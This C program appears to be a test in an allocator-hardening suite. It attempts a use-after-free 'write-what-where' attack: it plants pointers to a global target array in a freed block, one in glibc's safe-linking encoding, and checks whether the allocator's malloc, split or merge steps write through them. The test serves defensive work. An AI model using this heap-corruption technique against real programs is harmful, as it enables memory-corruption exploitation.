/* unlink_write: write addresses of the attacker's choice into a freed
 * block, then let the allocator work on that chunk, hoping that it writes
 * through them (the classic "write-what-where" of free-list unlinking).
 *
 * Goal: the allocator writes into a target the attacker chose (a global
 * array, filled with a known byte beforehand).
 *
 * A (200 bytes) lies between two live blocks LO and HI, with a guard above.
 * A is freed; a use-after-free write puts pointers into the target in its
 * first four words (where free lists and indexes keep their links and where
 * slz keeps its canary), raw and, for the first word, in glibc's
 * safe-linking form (an attacker who knows the block's address can encode
 * it). Then:
 *   unlink_write malloc   malloc(200), which takes A's chunk again, twice
 *   unlink_write split    malloc(24), which carves A's chunk, twice
 *   unlink_write merge    free(LO) and free(HI), which merge with A's chunk,
 *                         then malloc(400) over the merged chunk
 * After every step the target is checked.
 */
#include "attacks.h"

static unsigned char target[256] __attribute__((aligned(16)));

static void check_target(const char *step)
{
    for (size_t i = 0; i < sizeof target; i++)
        if (target[i] != 0x5A)
            reached("after %s the target's byte %zu is %#x: the allocator wrote into the target", step, i,
                    target[i]);
}

int main(int argc, char **argv)
{
    const char *then = argc > 1 ? argv[1] : "";
    if (!IS(then, "malloc") && !IS(then, "split") && !IS(then, "merge"))
        usage("unlink_write malloc | split | merge\n");
    memset(target, 0x5A, sizeof target);
    char *lo = opaque(malloc(100)), *a = opaque(malloc(200)), *hi = opaque(malloc(100));
    char *guard = opaque(malloc(40));
    free(a);
    uintptr_t *w = opaque(a);
    w[0] = ((uintptr_t)a >> 12) ^ (uintptr_t)(target + 16); /* glibc's encoding of a link */
    w[1] = (uintptr_t)(target + 32);
    w[2] = (uintptr_t)(target + 48);
    w[3] = (uintptr_t)(target + 64);
    check_target("the use-after-free write");
    if (IS(then, "malloc")) {
        opaque(malloc(200));
        check_target("the first malloc(200)");
        opaque(malloc(200));
        check_target("the second malloc(200)");
    } else if (IS(then, "split")) {
        opaque(malloc(24));
        check_target("the first malloc(24)");
        opaque(malloc(24));
        check_target("the second malloc(24)");
    } else {
        free(lo);
        check_target("free(LO)");
        free(hi);
        check_target("free(HI)");
        opaque(malloc(400));
        check_target("malloc(400)");
    }
    opaque(guard);
    not_reached("the target was never written");
}
